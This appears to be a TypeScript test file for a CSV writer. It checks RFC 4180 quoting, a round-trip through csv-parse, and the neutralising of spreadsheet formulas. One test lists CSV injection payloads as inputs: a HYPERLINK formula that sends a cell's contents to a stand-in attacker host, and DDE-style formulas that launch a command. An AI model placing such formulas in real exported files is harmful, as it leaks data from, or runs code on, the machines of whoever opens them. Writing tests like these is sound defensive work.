import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine, csvField, neutraliseFormula } from '../../../src/formats/csv/writer.js';

/** Deterministic pseudo-random strings rich in the characters CSV quoting is about. */
function* strings(seed: number, n: number): Generator<string> {
  const alphabet = ['a', 'Z', ' ', ',', '"', '""', '\r', '\n', '\r\n', ';', "'", '=', 'é', '你', '🎉', '\t', '\u00a0', 'Привет'];
  let x = seed;
  for (let i = 0; i < n; i++) {
    let s = '';
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    const len = x % 12;
    for (let j = 0; j < len; j++) {
      x = (x * 1103515245 + 12345) & 0x7fffffff;
      s += alphabet[x % alphabet.length] ?? '';
    }
    yield s;
  }
}

describe('formula neutralising (CSV injection)', () => {
  it('prefixes text a spreadsheet would run as a formula with a quote', () => {
    for (const attack of ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1'])
      expect(neutraliseFormula(attack), attack).toBe(`'${attack}`);
  });

  it('leaves plain text, numbers and phone numbers alone', () => {
    for (const plain of ['hello = world', "it's", '', '+15550001002', '-3', '+1 (555) 000-1234', '+15550001001; +15550001002', '*#06#', '-12.5'])
      expect(neutraliseFormula(plain), plain).toBe(plain);
  });
});

describe('CSV writer (RFC 4180)', () => {
  it('quotes only what needs quoting and doubles quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\r')).toBe('"cr\r"');
    expect(csvField('')).toBe('');
    expect(csvLine(['a', 'b,c', ''])).toBe('a,"b,c",\r\n');
  });

  it('reads back exactly through csv-parse (oracle), for 2,000 random rows', () => {
    const rows: string[][] = [];
    const gen = strings(42, 2000 * 5);
    for (let i = 0; i < 2000; i++) rows.push(
      Array.from({ length: 5 }, (): string => {
        const next = gen.next();
        return next.done === true ? '' : next.value;
      }),
    );
    const text = rows.map(csvLine).join('');
    const parsed: string[][] = parse(text, { relax_column_count: false, record_delimiter: '\r\n' });
    expect(parsed).toEqual(rows);
  });
});
